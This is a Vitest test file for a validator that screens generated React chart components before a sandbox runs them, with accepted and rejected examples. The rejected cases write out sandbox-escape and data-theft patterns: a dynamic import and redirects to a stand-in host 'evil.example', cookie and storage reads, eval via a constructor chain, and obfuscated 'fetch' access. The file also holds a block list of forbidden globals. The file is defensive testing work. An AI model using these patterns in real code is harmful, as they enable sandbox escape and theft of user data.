import { describe, expect, it } from "vitest";
import { ALLOWED_IMPORTS, FORBIDDEN_GLOBALS, FORBIDDEN_MEMBERS, MAX_CODE_LENGTH, validateComponent } from "./validation";

const good: Record<string, string> = {
  "bar chart": `import { BarChart, Bar, XAxis, YAxis, Tooltip, ResponsiveContainer } from "recharts";

export default function Artifact({ data, params }) {
  const rows = [...data].sort((a, b) => b.flights - a.flights);
  return (
    <ResponsiveContainer width="100%" height={360}>
      <BarChart data={rows} margin={{ top: 10, right: 20, left: 0, bottom: 0 }}>
        <XAxis dataKey="carrier" />
        <YAxis />
        <Tooltip />
        <Bar dataKey="flights" fill="#4f46e5" isAnimationActive={false} />
      </BarChart>
    </ResponsiveContainer>
  );
}`,
  "line chart with types": `import { LineChart, Line, XAxis, YAxis, Legend, ResponsiveContainer } from "recharts";

interface Row { month: string; flights: number }

const Artifact = ({ data }: { data: Row[]; params: Record<string, unknown> }) => (
  <ResponsiveContainer width="100%" height={360}>
    <LineChart data={data}>
      <XAxis dataKey="month" />
      <YAxis />
      <Legend verticalAlign="top" />
      <Line type="monotone" dataKey="flights" stroke="#4f46e5" dot={false} isAnimationActive={false} />
    </LineChart>
  </ResponsiveContainer>
);

export default Artifact;`,
  "KPI card": `export default function Kpi({ data, params }) {
  const value = data[0]?.flights ?? 0;
  const label = params.label ?? "Flights in 2013";
  return (
    <div style={{ padding: 24, fontFamily: "system-ui" }}>
      <div style={{ color: "#71717a" }}>{label}</div>
      <div style={{ fontSize: 40, fontWeight: 700 }}>{value.toLocaleString()}</div>
    </div>
  );
}`,
  "table with useMemo": `import React, { useMemo } from "react";

export default function Table({ data }) {
  const columns = useMemo(() => (data.length ? Object.keys(data[0]) : []), [data]);
  return (
    <table>
      <thead><tr>{columns.map((c) => <th key={c}>{c}</th>)}</tr></thead>
      <tbody>
        {data.map((row, i) => (
          <tr key={i}>{columns.map((c) => <td key={c}>{String(row[c])}</td>)}</tr>
        ))}
      </tbody>
    </table>
  );
}`,
  "lucide icon": `import { Plane } from "lucide-react";

function Artifact({ data }) {
  return <p><Plane size={18} /> {data.length} carriers</p>;
}

export default Artifact;`,
  "anonymous default function": `export default function ({ data }) { return <span>{data.length}</span>; }`,
  "view parameters beside the default export": `import { BarChart, Bar, XAxis, YAxis, ResponsiveContainer } from "recharts";

export const params = {
  color: { type: "color", label: "Bar colour", default: "#4f46e5" },
  topN: { type: "number", label: "Bars shown", min: 1, max: 50, step: 1, default: 10 },
  span: { type: "daterange", default: ["2013-01-01", "2013-12-31"] },
};

export default function Artifact({ data, params }) {
  const rows = [...data].sort((a, b) => b.flights - a.flights).slice(0, params.topN ?? 10);
  return (
    <ResponsiveContainer width="100%" height={360}>
      <BarChart data={rows}>
        <XAxis dataKey="carrier" />
        <YAxis />
        <Bar dataKey="flights" fill={params.color ?? "#4f46e5"} isAnimationActive={false} />
      </BarChart>
    </ResponsiveContainer>
  );
}`,
  "exported types beside the default export": `export interface Row { carrier: string }
export type Rows = Row[];
export default function A({ data }: { data: Rows }) { return <p>{data.length}</p>; }`,
};

interface BadCase {
  code: string;
  /** Text the problem must contain (it names the rule). */
  rule: RegExp;
  line: number;
}

const wrap = (body: string) => `export default function A({ data }) {\n  ${body}\n  return null;\n}`;

const bad: Record<string, BadCase> = {
  "import outside the allow list": { code: `import axios from "axios";\n${wrap("")}`, rule: /import from "axios" is not allowed/, line: 1 },
  "re-export from another module": { code: `export * from "fs";\n${wrap("")}`, rule: /import from "fs" is not allowed/, line: 1 },
  "dynamic import()": { code: wrap(`import("https://evil.example/x.js");`), rule: /dynamic import\(\) is not allowed/, line: 2 },
  require: { code: wrap(`const fs = require("fs");`), rule: /"require" is not allowed/, line: 2 },
  fetch: { code: wrap(`fetch("/api/x");`), rule: /"fetch" is not allowed/, line: 2 },
  XMLHttpRequest: { code: wrap(`new XMLHttpRequest();`), rule: /"XMLHttpRequest" is not allowed/, line: 2 },
  WebSocket: { code: wrap(`new WebSocket("wss://x");`), rule: /"WebSocket" is not allowed/, line: 2 },
  EventSource: { code: wrap(`new EventSource("/x");`), rule: /"EventSource" is not allowed/, line: 2 },
  sendBeacon: { code: wrap(`navigator.sendBeacon("/x", "d");`), rule: /member "\.sendBeacon" is not allowed/, line: 2 },
  eval: { code: wrap(`eval("1 + 1");`), rule: /"eval" is not allowed/, line: 2 },
  Function: { code: wrap(`Function("return 1")();`), rule: /"Function" is not allowed/, line: 2 },
  "new Function": { code: wrap(`new Function("return 1");`), rule: /"Function" is not allowed/, line: 2 },
  "constructor chain": { code: wrap(`[].map.constructor("return 1")();`), rule: /member "\.constructor" is not allowed/, line: 2 },
  localStorage: { code: wrap(`localStorage.getItem("k");`), rule: /"localStorage" is not allowed/, line: 2 },
  sessionStorage: { code: wrap(`window.sessionStorage.clear();`), rule: /member "\.sessionStorage" is not allowed/, line: 2 },
  indexedDB: { code: wrap(`indexedDB.open("db");`), rule: /"indexedDB" is not allowed/, line: 2 },
  cookie: { code: wrap(`const c = document.cookie;`), rule: /member "\.cookie" is not allowed/, line: 2 },
  "window.parent": { code: wrap(`window.parent.focus();`), rule: /member "\.parent" is not allowed/, line: 2 },
  "bare top": { code: wrap(`const t = top;`), rule: /"top" is not allowed/, line: 2 },
  "window.opener": { code: wrap(`window.opener.focus();`), rule: /member "\.opener" is not allowed/, line: 2 },
  postMessage: { code: wrap(`postMessage(data, "*");`), rule: /"postMessage" is not allowed/, line: 2 },
  globalThis: { code: wrap(`globalThis.x = 1;`), rule: /"globalThis" is not allowed/, line: 2 },
  "window.location write": { code: wrap(`window.location = "https://evil.example";`), rule: /writing to location/, line: 2 },
  "document.location.href write": { code: wrap(`document.location.href = "https://evil.example";`), rule: /writing to location/, line: 2 },
  "location.assign": { code: wrap(`location.assign("https://evil.example");`), rule: /location\.assign\(\)/, line: 2 },
  importScripts: { code: wrap(`importScripts("x.js");`), rule: /"importScripts" is not allowed/, line: 2 },
  Worker: { code: wrap(`new Worker("w.js");`), rule: /"Worker" is not allowed/, line: 2 },
  SharedWorker: { code: wrap(`new SharedWorker("w.js");`), rule: /"SharedWorker" is not allowed/, line: 2 },
  'window["fetch"]': { code: wrap(`window["fetch"]("/x");`), rule: /member \["fetch"\] is not allowed/, line: 2 },
  "concatenated member name": { code: wrap(`self["fe" + "tch"]("/x");`), rule: /member \["fetch"\] is not allowed/, line: 2 },
  "destructured member": { code: wrap(`const { fetch: get } = window;`), rule: /member "fetch" is not allowed \(forbidden member, destructured\)/, line: 2 },
  "forbidden name as a string": { code: wrap(`Reflect.get(window, "fetch");`), rule: /the string "fetch" is not allowed/, line: 2 },
  "computed access on window": { code: wrap(`const k = data[0].k; window[k]();`), rule: /computed access on "window" is not allowed/, line: 2 },
  "this": { code: wrap(`const g = (function () { return this; })();`), rule: /"this" is not allowed/, line: 2 },
  "import.meta": { code: wrap(`const u = import.meta.url;`), rule: /import\.meta is not allowed/, line: 2 },
  "no default export": { code: `export function A() { return null; }`, rule: /no default export/, line: 1 },
  "two default exports": { code: `${wrap("")}\nconst B = () => null;\nexport { B as default };`, rule: /more than one default export/, line: 6 },
  "class component": { code: `import { Component } from "react";\nexport default class A extends Component { render() { return null; } }`, rule: /must be a function component/, line: 2 },
  "wrapped component": { code: `import { memo } from "react";\nexport default memo(() => null);`, rule: /must be a function component/, line: 2 },
  "default export of a non-function": { code: `const A = 42;\nexport default A;`, rule: /must be a function component/, line: 2 },
  "async component": { code: `export default async function A() { return null; }`, rule: /not async or a generator/, line: 1 },
  "named export other than params": { code: `export const colors = ["#fff"];\n${wrap("")}`, rule: /named export is not allowed \(only "export const params/, line: 1 },
  "exported helper function": { code: `export function helper() { return 1; }\n${wrap("")}`, rule: /named export "helper" is not allowed/, line: 1 },
  "export list": { code: `const params = {};\nexport { params };\n${wrap("")}`, rule: /named export "params" is not allowed/, line: 2 },
  "params declared with let": { code: `export let params = {};\n${wrap("")}`, rule: /declared with "export const params", not "let"/, line: 1 },
  "params not a literal": { code: `const p = {};\nexport const params = p;\n${wrap("")}`, rule: /must be an object literal, not the variable "p"/, line: 2 },
  "params with a call": { code: `export const params = {\n  n: { type: "number", default: Math.random() },\n};\n${wrap("")}`, rule: /view parameter "n": field "default" must be a literal/, line: 2 },
  "params with an unknown type": { code: `export const params = {\n  n: { type: "slider", default: 1 },\n};\n${wrap("")}`, rule: /view parameter "n": type must be one of/, line: 2 },
  "params default out of range": { code: `export const params = {\n  n: { type: "number", max: 5, default: 9 },\n};\n${wrap("")}`, rule: /view parameter "n": default 9 is above max 5/, line: 2 },
  "syntax error": { code: `export default function A() {\n  return <div>;\n}`, rule: /^Syntax error at line \d+:\d+: /, line: 2 },
};

describe("validateComponent accepts components that follow the contract", () => {
  it.each(Object.entries(good))("%s", (_name, code) => {
    expect(validateComponent(code)).toEqual({ ok: true });
  });
});

describe("validateComponent refuses each forbidden construct, naming the rule and the line", () => {
  it.each(Object.entries(bad))("%s", (_name, { code, rule, line }) => {
    const result = validateComponent(code);
    expect(result.ok).toBe(false);
    const problems = result.ok ? [] : result.problems;
    const match = problems.find((problem) => rule.test(problem));
    expect(match, `no problem matches ${rule}; got ${JSON.stringify(problems)}`).toBeDefined();
    expect(match).toMatch(new RegExp(`line ${line}:\\d+`));
  });
});

describe("validation policy", () => {
  it("allows exactly react, recharts and lucide-react", () => {
    expect([...ALLOWED_IMPORTS].sort()).toEqual(["lucide-react", "react", "recharts"]);
  });

  it("lists every global the contract forbids, and forbids them as members too", () => {
    for (const name of ["fetch", "eval", "Function", "localStorage", "globalThis", "parent", "top", "opener"]) {
      expect(FORBIDDEN_GLOBALS).toContain(name);
      expect(FORBIDDEN_MEMBERS).toContain(name);
    }
    expect(FORBIDDEN_MEMBERS).toEqual(expect.arrayContaining(["sendBeacon", "cookie", "constructor"]));
  });

  it("does not flag forbidden names used as plain object keys or JSX props", () => {
    const code = `export default function A() {\n  const m = { top: 4, parent: "x" };\n  return <div top={m.bottom}>{m.parent === "x" ? "a" : "b"}</div>;\n}`;
    const result = validateComponent(code);
    // `m.parent` is a member read and is refused; the object keys and the JSX prop are not.
    expect(result).toEqual({ ok: false, problems: ['line 3:33: member ".parent" is not allowed (forbidden member)'], rules: ["forbiddenMember"] });
  });

  it("ignores TypeScript types, which are erased before the code runs", () => {
    const code = `type Fn = Function;\ninterface P { fetch: typeof fetch }\nexport default function A(props: P): null { return null; }`;
    expect(validateComponent(code)).toEqual({ ok: true });
  });

  it("refuses code longer than the limit without parsing it", () => {
    const result = validateComponent(`export default function A() { return null; }\n${" ".repeat(MAX_CODE_LENGTH)}`);
    expect(result.ok).toBe(false);
    expect(result.ok ? "" : result.problems[0]).toMatch(/too long/);
  });
});
